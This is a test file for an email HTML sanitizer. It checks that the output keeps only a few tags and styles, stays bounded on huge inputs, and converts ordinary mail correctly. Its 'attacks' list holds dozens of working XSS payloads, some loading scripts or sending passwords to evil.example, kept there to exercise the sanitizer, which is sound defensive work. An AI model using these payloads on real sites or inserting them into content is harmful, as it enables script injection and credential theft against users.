// @vitest-environment jsdom
import { array, assert, constantFrom, oneof, property, string } from 'fast-check'
import { describe, expect, test } from 'vitest'
import { SHOWN_HTML, withoutSpace } from '#server/testing/shown-html.ts'
import { readBlocks } from './blocks.ts'
import { readHtml } from './tree.ts'
import { writeSafeHtml, writeText } from './write.ts'

/** What a mail's HTML is on the page. */
const safeHtml = (html: string) => writeSafeHtml(readBlocks(readHtml(html).tokens).blocks)

const allowedTags = new Set(['P', 'BR', 'B', 'I', 'U', 'UL', 'OL', 'LI', 'SPAN'])
const harmlessStyle =
  /^(text-align:(left|right|center|justify|start|end)|font-weight:(normal|bold|bolder|lighter|[1-9]00)|font-style:(normal|italic|oblique)|text-decoration:(none|underline|line-through)|;)*$/

/** Reads the result as a browser would and fails on anything but the nine tags and the harmless styles. */
function expectHarmless(html: string) {
  const document = new DOMParser().parseFromString(`<body>${html}</body>`, 'text/html')
  expect(document.head.childNodes.length).toBe(0)
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_ALL)
  for (let node = walker.nextNode(); node; node = walker.nextNode()) {
    expect([Node.ELEMENT_NODE, Node.TEXT_NODE]).toContain(node.nodeType)
  }
  for (const element of document.body.querySelectorAll('*')) {
    expect(allowedTags).toContain(element.tagName)
    for (const attribute of element.attributes) {
      expect(attribute.name).toBe('style')
      expect(attribute.value).toMatch(harmlessStyle)
    }
  }
}

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="&#97;lert(1)">',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<img src=`javascript:alert(1)`>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi><table><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<template><script>alert(1)</script></template>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://x.example/&quot;onmouseover=&quot;alert(1)">x</a>',
  '<a href="https://x.example/<script>alert(1)</script>">x</a>',
  '<p style="background:url(https://evil.example/pixel.gif)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
  '<p style="text-align:center;background:u\\72l(https://evil.example)">x</p>',
  '<p style="font-weight:bold;color:#000;font-size:0">x</p>',
  '<p style="text-decoration:underline url(https://evil.example)">x</p>',
  '<p style="text-align:left/**/;behavior:url(x.htc)">x</p>',
  "<span style='font-style:italic\"><img src=x onerror=alert(1)>'>x</span>",
  '<style>@import url(https://evil.example/x.css);</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<form action=https://evil.example><input name=password><button>go</button></form>',
  '<p onclick=alert(1) onmouseover="alert(2)" id=x class=y>x</p>',
  '<!--[if gte mso 9]><xml><o:OfficeDocumentSettings/></xml><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><?php echo 1 ?><p>x</p>',
  '<b\0 onclick=alert(1)>x</b>',
  '<img\u000Csrc=x\u000Conerror=alert(1)>',
  '<p/onclick=alert(1)//>x',
  '<table background="javascript:alert(1)"><tr><td background=x>y</td></tr></table>',
  '<video><source onerror="alert(1)"></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<custom-element is=x onfocus=alert(1) autofocus tabindex=1>x</custom-element>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p>&lt;img src=x onerror=alert(1)&gt;</p>',
  '<a href="https://x.example">&lt;img src=x onerror=alert(1)&gt;</a>',
]

describe('HTML of an attacker', () => {
  test.each(attacks)('%s becomes harmless', (attack) => {
    const html = safeHtml(attack)
    expectHarmless(html)
    expectHarmless(safeHtml(`<p>before ${attack} after</p>`))
    expect(html).not.toMatch(/url\(|position|expression|<!--/)
  })

  test('a link with a non-web scheme loses its address', () => {
    expect(safeHtml('<a href="javascript:alert(1)">click</a>')).toBe('<p>click</p>')
    expect(safeHtml('<a href="data:text/html,x">click</a>')).toBe('<p>click</p>')
  })

  test('randomly combined pieces become harmless, and sanitizing twice changes nothing', () => {
    const piece = oneof(
      constantFrom(...attacks),
      constantFrom(
        ...'<b> </b> <i> </i> <div> </div> </p> <ul> </ul> <li> </li> <ol> </ol> <table> <tr> <td> </td> </table>'.split(
          ' ',
        ),
        ...'<br> <hr> <span> </span> </a> <h1> </h1> <!-- --> " < > & &amp; &lt; words <pre> </pre> <s> </s>'.split(
          ' ',
        ),
        '<p style="text-align:center">',
        '<a href="https://x.example/?a=1&b=2">',
        ' ',
        '\n',
      ),
      string({ maxLength: 12 }),
    )
    assert(
      property(array(piece, { maxLength: 25 }), (pieces) => {
        const once = safeHtml(pieces.join(''))
        expectHarmless(once)
        expect(safeHtml(once)).toBe(once)
      }),
      { numRuns: 300 },
    )
  })

  test('a megabyte of ampersands does not grow with each sanitizing', () => {
    expect(safeHtml('&'.repeat(900_000)).length).toBeLessThan(210_000)
    expect(safeHtml('&#x'.repeat(300_000)).length).toBeLessThan(250_000)
    expect(safeHtml(`<p>${'a &amp; b '.repeat(2_000)}</p>`)).toContain('a &amp; b a')
  })

  test.each([
    ['lines inside of eight tags', `${'<strike>'.repeat(8)}<pre>${'a\n'.repeat(200_000)}`],
    ['two megabytes of lines', `<pre>${'a\n'.repeat(1_000_000)}`],
    ['breaks', 'x<br>'.repeat(60_000)],
    ['white space', `<pre>${' \n'.repeat(400_000)}end`],
    ['open formatting, copied into every paragraph', manyFormats(5_000) + '<p>x'.repeat(10_000)],
    ['formatting that every paragraph opens anew', `<p>${manyFormats(900)}x${'</p><p>x'.repeat(200)}`],
    ['text in front of tables', '<table>' + 'x<b></b>'.repeat(10_000)],
    ['one tag of a megabyte of attributes', `<b ${manyNames(130_000)}>x`],
    ['nested <b>', '<b>'.repeat(50_000) + 'end'],
    ['nested <div>', '<div>'.repeat(50_000) + 'end'],
    ['nested lists', '<ul><li>'.repeat(50_000) + 'end'],
    ['nested tables', '<table><tr><td>'.repeat(50_000) + 'end'],
    ['links', '<a href="https://x.example">y</a>'.repeat(50_000)],
    ['spans', '<span style="font-weight:bold">'.repeat(50_000) + 'end'],
    ['paragraphs', '<p>x'.repeat(50_000)],
    ['less-than signs', '&lt;'.repeat(200_000)],
  ])('a mail of %s is read up to a bound, and not further', (_what, html) => {
    const { tokens } = readHtml(html)
    // An opening and a closing tag, with text between, for each element that may be created.
    expect(tokens.length).toBeLessThanOrEqual(120_000)
    const { blocks } = readBlocks(tokens)
    const runs = blocks.reduce((sum, block) => sum + block.runs.length, 0)
    expect(runs).toBeLessThanOrEqual(20_002)
    expect(safeHtml(html).length).toBeLessThan(400_000)
  })

  test('a note says when the end of a mail is missing', () => {
    const read = (html: string) => {
      const { tokens, isCut } = readHtml(html)
      return isCut || readBlocks(tokens).isCut
    }
    expect(read('<p>all of it</p>'.repeat(100))).toBe(false)
    expect(read(`<p>${'word '.repeat(30_000)}</p>`)).toBe(false)
    expect(read(`<p>${'word '.repeat(50_000)}</p>`)).toBe(true)
    expect(read('<p>x</p>'.repeat(30_000))).toBe(true)
    expect(read('<div>'.repeat(2_000) + 'end')).toBe(true)
  })
})

function manyFormats(count: number): string {
  return Array.from({ length: count }, (_, index) => `<b id=${index}>`).join('')
}

function manyNames(count: number): string {
  return Array.from({ length: count }, (_, index) => `a${index.toString(36)}`).join(' ')
}

describe('what a browser would show', () => {
  test.each(SHOWN_HTML)('%j', (html, words) => {
    const shown = writeText(readBlocks(readHtml(html).tokens).blocks)
    expect(withoutSpace(shown.replaceAll(/^- /gm, ''))).toBe(withoutSpace(words))
  })
})

describe('what a person wrote', () => {
  test.each([
    ['<p>Hello <strong>there</strong>, <em>we</em> come</p>', '<p>Hello <b>there</b>, <i>we</i> come</p>'],
    ['<div>one</div><div>two</div>', '<p>one</p><p>two</p>'],
    ['<div><div>one<div>two</div>three</div></div>', '<p>one</p><p>two</p><p>three</p>'],
    ['<b>bold<div>and on</div></b>', '<p><b>bold</b></p><p><b>and on</b></p>'],
    ['<h1>Title</h1>text', '<p>Title</p><p>text</p>'],
    [
      '<table><tr><td>Mon</td><td>8:00</td></tr><tr><td>Tue</td><td>9:00</td></tr></table>',
      '<p>Mon 8:00</p><p>Tue 9:00</p>',
    ],
    ['<ul><li>one</li><li><p>two</p></li></ul>', '<ul><li>one</li><li>two</li></ul>'],
    ['<p>a<br><br><br><br>b</p>', '<p>a<br /><br />b</p>'],
    ['<div><br></div><div>x</div>', '<p>x</p>'],
    ['<p><s>8:00</s> 9:00</p>', '<p><span style="text-decoration:line-through">8:00</span> 9:00</p>'],
    [
      '<p style="text-align:center;color:white;font-size:1px">mid</p>',
      '<p style="text-align:center">mid</p>',
    ],
    [
      '<span style="font-weight:bold;background:#fff">b</span>',
      '<p><span style="font-weight:bold">b</span></p>',
    ],
    [
      'see <a href="https://hearth.example/slots?a=1&amp;b=2">our slots</a>',
      '<p>see our slots (https://hearth.example/slots?a=1&amp;b=2)</p>',
    ],
    ['<a href="https://hearth.example/">hearth.example</a>', '<p>hearth.example</p>'],
    ['<a href="mailto:bob@hearth.example">bob@hearth.example</a>', '<p>bob@hearth.example</p>'],
    ['<a href="https://hearth.example/x"><img src="logo.png" alt="logo"></a>', ''],
    ['<pre>one\ntwo</pre>', '<p>one<br />two</p>'],
    ['<p>1 &lt; 2 &amp; 3</p>', '<p>1 &lt; 2 &amp; 3</p>'],
    ['<p>Grüße 🙂</p>', '<p>Grüße 🙂</p>'],
    ['<!--[if mso]><p>word junk</p><![endif]--><p class=MsoNormal>Hi<o:p></o:p></p>', '<p>Hi</p>'],
    ['<html><head><title>t</title><style>p{color:red}</style><body><p>x', '<p>x</p>'],
    ['', ''],
    ['   <p> </p><div><br/></div>', ''],
  ])('%s', (html, expected) => {
    expect(safeHtml(html)).toBe(expected)
  })
})
